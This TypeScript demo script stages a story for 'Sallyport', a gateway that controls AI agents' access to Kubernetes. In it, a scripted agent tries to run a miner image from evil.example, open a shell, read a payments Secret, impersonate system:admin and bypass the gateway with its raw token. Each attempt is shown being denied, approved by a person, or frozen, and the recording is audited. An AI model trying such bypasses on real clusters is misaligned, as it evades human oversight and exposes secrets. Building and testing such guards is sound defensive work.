import { chmodSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { maskingScene } from './masking-scene.ts';
import { buildSet, SALLYPORT, type StorySet } from './set.ts';
import { type Actor, bold, dim, execute, Stage } from './stage.ts';

/** `make demo`: the story of Sallyport on a real API server. `KEEP=1` leaves it running until Ctrl-C. */
const stage = new Stage();
const started = performance.now();

stage.title('Sallyport: a guarded double gate for AI agents in front of Kubernetes');
stage.say('Everything here is real: the API server, the gateway, the identity provider, kubectl. Building the set:');
const set = await buildSet(stage);
try {
  await play(set);
  const seconds = ((performance.now() - started) / 1_000).toFixed(0);
  stage.title(`That was the story, in ${seconds} s.`);
  if (process.env['KEEP'] === '1') await keep(set);
  else stage.say('KEEP=1 make demo leaves everything running, to try things by hand.');
} catch (error) {
  process.stderr.write(`\nThe story went wrong: ${(error as Error).message}\n`);
  process.exitCode = 1;
} finally {
  await set.strike();
}

async function play({ cluster, gatewayURL, gatewayCA, directory, approverKubeconfig }: StorySet): Promise<void> {
  const home = join(directory, 'home');
  const kubeconfig = join(directory, 'cursor.kubeconfig');
  const admin: Actor = {
    prompt: 'admin $',
    program: cluster.binaries.kubectl!,
    env: { KUBECONFIG: cluster.adminKubeconfig },
  };
  const adminTool: Actor = { ...admin, program: SALLYPORT };
  const alice: Actor = { prompt: 'alice $', program: SALLYPORT, env: { HOME: home, KUBECONFIG: '' } };
  const agent: Actor = {
    prompt: 'agent $',
    program: cluster.binaries.kubectl!,
    env: { HOME: home, KUBECONFIG: kubeconfig, BROWSER: browser(directory) },
  };

  stage.scene('Alice hands her agent a kubeconfig. There is no secret in it.');
  await stage.run(
    alice,
    `sallyport kubeconfig --agent cursor --gateway ${gatewayURL}`,
    [
      'kubeconfig',
      '--agent',
      'cursor',
      '--gateway',
      gatewayURL,
      '--ca',
      gatewayCA,
      '--command',
      SALLYPORT,
      '--namespace',
      'shop',
      '--output',
      kubeconfig,
    ],
    { succeeds: true },
  );
  stage.say('The first command signs Alice in, in her browser, and takes a session of an hour for the agent:');
  await stage.run(agent, 'kubectl auth whoami', ['auth', 'whoami'], {
    succeeds: true,
    says: /sallyport:alice@shop\.example/,
  });

  stage.scene('The agent looks around. The policy lets it.');
  await stage.run(agent, 'kubectl get pods,configmaps -o name', ['get', 'pods,configmaps', '-o', 'name'], {
    succeeds: true,
    says: /pod\/web/,
  });

  stage.scene('It starts an image from somewhere else. The policy says no, and why.');
  await stage.run(
    agent,
    'kubectl run miner --image=evil.example/miner',
    ['run', 'miner', '--image=evil.example/miner'],
    { succeeds: false, says: /SP_POLICY_DENIED.*not from registry\.shop\.example: evil\.example\/miner/ },
  );
  stage.say('The same with an image of the shop’s own:');
  await stage.run(
    agent,
    'kubectl run worker --image=registry.shop.example/worker:1.0',
    ['run', 'worker', '--image=registry.shop.example/worker:1.0'],
    { succeeds: true },
  );

  stage.scene('It wants a shell in a Pod, and a Secret.');
  await stage.run(agent, 'kubectl exec web -- sh -c env', ['exec', 'web', '--', 'sh', '-c', 'env'], {
    succeeds: false,
    says: /SP_APPROVAL_REQUIRED/,
  });
  await stage.run(agent, 'kubectl get secret payments -o yaml', ['get', 'secret', 'payments', '-o', 'yaml'], {
    succeeds: false,
    says: /SP_POLICY_DENIED/,
  });

  await askAPerson(agent, {
    prompt: 'bob   $',
    program: cluster.binaries.kubectl!,
    env: { KUBECONFIG: approverKubeconfig, PATH: `${dirname(SALLYPORT)}:${process.env['PATH']}` },
  });

  await maskingScene(stage, { cluster, admin, agent, directory });

  stage.scene('It tries to be somebody else, and to go around the gate.');
  await stage.run(agent, 'kubectl get secrets --as=system:admin', ['get', 'secrets', '--as=system:admin'], {
    succeeds: false,
    says: /SP_IDENTITY_HEADER/,
  });
  stage.say('Its token, shown straight to the API server:');
  const token = await sessionToken(agent, gatewayURL, gatewayCA);
  await stage.run(
    { ...agent, env: { HOME: home, KUBECONFIG: '/dev/null' } },
    `kubectl get secrets --server ${cluster.url} --token $TOKEN`,
    ['get', 'secrets', '--server', cluster.url, '--certificate-authority', cluster.caFile, '--token', token],
    { succeeds: false, says: /must be logged in/ },
  );

  stage.scene('Enough: an administrator stops the agent. It acts within a second.');
  await stage.run(adminTool, 'sallyport session list', ['session', 'list'], { succeeds: true, says: /cursor/ });
  await stage.run(
    adminTool,
    'sallyport freeze cursor --reason "odd behaviour"',
    ['freeze', 'cursor', '--reason', 'odd behaviour'],
    { succeeds: true },
  );
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  await stage.run(agent, 'kubectl get pods', ['get', 'pods'], { succeeds: false, says: /SP_SESSION_REFUSED.*frozen/ });
  await stage.run(adminTool, 'sallyport unfreeze cursor', ['unfreeze', 'cursor'], { succeeds: true });

  await auditor(adminTool, join(directory, 'recordings'));
}

/** What was recorded: shown, replayed, verified; then one byte of it is changed. */
async function auditor(admin: Actor, store: string): Promise<void> {
  const carol: Actor = { ...admin, prompt: 'carol $', env: { ...admin.env, SALLYPORT_STORE: store } };
  stage.scene('The session ends. Carol, an auditor, looks at what was recorded.');
  await stage.run(admin, 'sallyport session revoke --agent cursor', ['session', 'revoke', '--agent', 'cursor'], {
    succeeds: true,
  });
  const name = await sealedRecording(store);
  await stage.run(carol, 'sallyport recording list', ['recording', 'list'], {
    succeeds: true,
    says: /cursor.*Complete/,
  });
  await stage.run(carol, `sallyport recording show ${name}`, ['recording', 'show', name], {
    succeeds: true,
    says: /evil\.example/,
    lines: 14,
  });
  await stage.run(carol, `sallyport recording replay ${name}`, ['recording', 'replay', name, '--speed', '1000'], {
    succeeds: true,
    says: /\$ kubectl get pods -n shop[\s\S]*\$ kubectl create -n shop -f pods[\s\S]*denied by cursor-in-production\/only-our-images/,
    lines: 10,
  });
  await stage.run(carol, `sallyport recording verify ${name}`, ['recording', 'verify', name], {
    succeeds: true,
    says: /^SOUND/m,
  });
  stage.say('Somebody changes one byte of it:');
  const folder = join(store, 'recordings', name);
  const [chain] = readdirSync(folder, { withFileTypes: true }).filter((entry) => entry.isDirectory());
  const segment = join(folder, chain!.name, '000001.jsonl.zst');
  const bytes = readFileSync(segment);
  const at = Math.floor(bytes.length / 2);
  bytes[at] = bytes[at]! ^ 1;
  chmodSync(segment, 0o640);
  writeFileSync(segment, bytes);
  await stage.run(carol, `sallyport recording verify ${name}`, ['recording', 'verify', name], {
    succeeds: false,
    says: /^ALTERED[\s\S]*000001\.jsonl\.zst, line \d+/m,
  });
}

/** The recording's name, once its manifest is in the store. */
async function sealedRecording(store: string): Promise<string> {
  for (let attempt = 0; attempt < 200; attempt += 1) {
    const folder = join(store, 'recordings');
    const sealed = existsSync(folder)
      ? readdirSync(folder).filter((one) => existsSync(join(folder, one, 'manifest.json')))
      : [];
    const [name] = sealed.filter((one) => one.startsWith('cursor'));
    if (name !== undefined) return name;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error('no recording was sealed');
}

/** One exact request, decided by a person, used once. */
async function askAPerson(agent: Actor, bob: Actor): Promise<void> {
  const run = ['run', 'debugger', '--image=registry.shop.example/debugger:1.0', '--privileged'];
  const shown = `kubectl ${run.join(' ')}`;
  const named = async (): Promise<string> => {
    const { stderr } = await stage.run(agent, shown, run, {
      succeeds: false,
      says: /SP_APPROVAL_REQUIRED.*kubectl approve/,
    });
    return /kubectl approve -n shop (ar-\S+?)"/.exec(stderr)?.[1] ?? '';
  };

  stage.scene('It needs a privileged Pod. That takes a person, who sees exactly what would run.');
  const name = await named();
  await stage.run(bob, 'kubectl approvals', ['approvals'], { succeeds: true, says: new RegExp(name) });
  await stage.run(bob, `kubectl approve -n shop ${name}`, ['approve', '-n', 'shop', name], {
    succeeds: true,
    says: /privileged: true[\s\S]*approved/,
    lines: 60,
  });
  stage.say('The same command, once more, passes:');
  await stage.run(agent, shown, run, { succeeds: true, says: /pod\/debugger created/ });
  stage.say('And that was it. The same again is asked again, and Bob has seen enough:');
  const second = await named();
  await stage.run(
    bob,
    `kubectl deny ${second} --reason "one is enough"`,
    ['deny', second, '--reason', 'one is enough'],
    {
      succeeds: true,
      says: /denied/,
    },
  );
  await stage.run(agent, shown, run, {
    succeeds: false,
    says: /SP_APPROVAL_DENIED.*by bob@shop\.example: one is enough/,
  });
}

/** What the agent holds: the session token, as kubectl gets it from the plugin. */
async function sessionToken(agent: Actor, gateway: string, ca: string): Promise<string> {
  const args = ['credential', '--gateway', gateway, '--agent', 'cursor', '--ca', ca];
  const { stdout } = await execute(SALLYPORT, args, agent.env);
  return (JSON.parse(stdout) as { status: { token: string } }).status.token;
}

/** A browser that signs Alice in by itself. By hand, and without it, your own opens. */
function browser(directory: string): string {
  const path = join(directory, 'browser');
  const script = new URL('browser.ts', import.meta.url).pathname;
  writeFileSync(path, `#!/bin/sh\nexec '${process.execPath}' '${script}' alice "$1"\n`, { mode: 0o700 });
  return path;
}

/** Leaves everything running, and says what to try. */
async function keep({ cluster, gatewayURL, gatewayLog, directory, approverKubeconfig }: StorySet): Promise<void> {
  const kubectl = cluster.binaries.kubectl!;
  stage.say('It is all still there. In another terminal:');
  process.stdout.write(`
   ${bold('as the agent')}      export KUBECONFIG=${join(directory, 'cursor.kubeconfig')}
                     ${kubectl} get deployments
                     ${kubectl} create deployment x --image=registry.shop.example/x:1
   ${bold('as the approver')}   export KUBECONFIG=${approverKubeconfig} PATH=${dirname(SALLYPORT)}:$PATH
                     ${kubectl} approvals --watch
   ${bold('as the admin')}      export KUBECONFIG=${cluster.adminKubeconfig}
                     ${kubectl} edit agentpolicy cursor-in-production   ${dim('(a change acts within a second)')}
                     ${SALLYPORT} session list
   ${bold('the gateway')}       ${gatewayURL}, its log: tail -f ${gatewayLog}

   Ctrl-C ends and removes everything.
`);
  await new Promise<void>((resolve) => {
    // The timer keeps the process alive: signals alone do not.
    const alive = setInterval(() => {}, 60_000);
    const leave = (): void => {
      clearInterval(alive);
      resolve();
    };
    process.once('SIGINT', leave);
    process.once('SIGTERM', leave);
  });
}
